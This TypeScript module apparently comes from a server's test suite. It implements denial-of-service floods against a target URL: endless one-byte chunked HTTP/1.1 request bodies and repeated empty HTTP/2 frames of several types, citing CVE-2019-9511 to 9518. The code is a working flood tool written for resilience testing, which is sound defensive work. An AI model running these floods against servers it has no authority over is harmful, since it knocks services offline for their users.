/**
 * Attacks by bytes that are cheap to send and dear to read, as fast as they go: chunks of one byte,
 * and frames of HTTP/2 that bring nothing (RFC 9113 section 10.5; CVE-2019-9511 to 9518).
 */
import { connect as connectTcp, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";
import { pause } from "../lib/pause.ts";
import {
  ACK,
  block,
  CONTINUATION,
  DATA,
  END_HEADERS,
  frame,
  HEADERS,
  PING,
  PREFACE,
  PRIORITY,
  SETTINGS,
  WINDOW_UPDATE,
} from "../tests/wire/http2/frames.ts";
import type { WireAttack } from "./attacks_wire.ts";

/** How long each goes on, ms. */
const ATTACK_MS = 3_000;
const CONNECTIONS = 4;
/** Before one that was ended is opened again, ms. */
const REOPEN_MS = 20;
/** Of each piece that is written at once. */
const REPEATS = 4_000;

const octets = (text: string) => Uint8Array.from(text, (char) => char.charCodeAt(0));

/** Says `first` on some connections and then the same for ever; opens anew what is ended. */
async function flood(url: URL, first: string, then: string): Promise<void> {
  const end = performance.now() + ATTACK_MS;
  const all = Array.from({ length: CONNECTIONS }, async () => {
    while (performance.now() < end) {
      await floodOne(url, octets(first), octets(then.repeat(REPEATS)), end);
      await pause(REOPEN_MS);
    }
  });
  await Promise.all(all);
}

/** Resolves when the connection is over. */
function floodOne(url: URL, first: Uint8Array, then: Uint8Array, end: number): Promise<void> {
  const socket = open(url);
  return new Promise((resolve) => {
    const late = setTimeout(() => socket.destroy(), end - performance.now());
    socket.on("error", () => {});
    socket.on("data", () => {});
    socket.on("close", () => {
      clearTimeout(late);
      resolve();
    });
    const more = () => {
      while (!socket.destroyed && socket.write(then));
    };
    socket.on("drain", more);
    socket.once(url.protocol === "http:" ? "connect" : "secureConnect", () => {
      socket.write(first);
      more();
    });
  });
}

function open({ protocol, hostname: host, port }: URL): Socket {
  if (protocol === "http:") return connectTcp(Number(port), host);
  const ALPNProtocols = ["h2"];
  return connectTls({ host, port: Number(port), ALPNProtocols, rejectUnauthorized: false });
}

/** A request whose body is on its way. */
const head = ({ host }: URL, path: string) =>
  frame(
    HEADERS,
    END_HEADERS,
    1,
    block([[":method", "POST"], [":scheme", "https"], [":authority", host], [":path", path]]),
  );

const GREETING = PREFACE + frame(SETTINGS, 0, 0, "") + frame(SETTINGS, ACK, 0, "");

const FRAMES: readonly (readonly [name: string, each: string])[] = [
  ["PING", frame(PING, 0, 0, "12345678")],
  ["SETTINGS", frame(SETTINGS, 0, 0, "")],
  ["WINDOW_UPDATE", frame(WINDOW_UPDATE, 0, 0, "\0\0\0\x01")],
  ["PRIORITY", frame(PRIORITY, 0, 3, "\0\0\0\0\x01")],
  ["empty DATA", frame(DATA, 0, 1, "")],
  ["DATA of one byte", frame(DATA, 0, 1, "x")],
  ["CONTINUATION", frame(CONTINUATION, 0, 1, "")],
];

export const FLOODS: readonly WireAttack[] = [
  ...["/logs", "the neighbour's"].map((aim): WireAttack => ({
    name: `tiny chunks at ${aim}`,
    run: (url, path) =>
      flood(
        url,
        `POST ${aim === "/logs" ? aim : path} HTTP/1.1\r\nHost: ${url.host}\r\n` +
          "Transfer-Encoding: chunked\r\n\r\n",
        "1\r\nx\r\n",
      ),
  })),
  ...FRAMES.map(([name, each]): WireAttack => ({
    name: `frames of HTTP/2: ${name}`,
    isSecured: true,
    run: (url, path) => {
      const opened = name === "CONTINUATION"
        ? frame(HEADERS, 0, 1, block([[":method", "GET"]]))
        : head(url, path);
      return flood(url, GREETING + opened, each);
    },
  })),
];
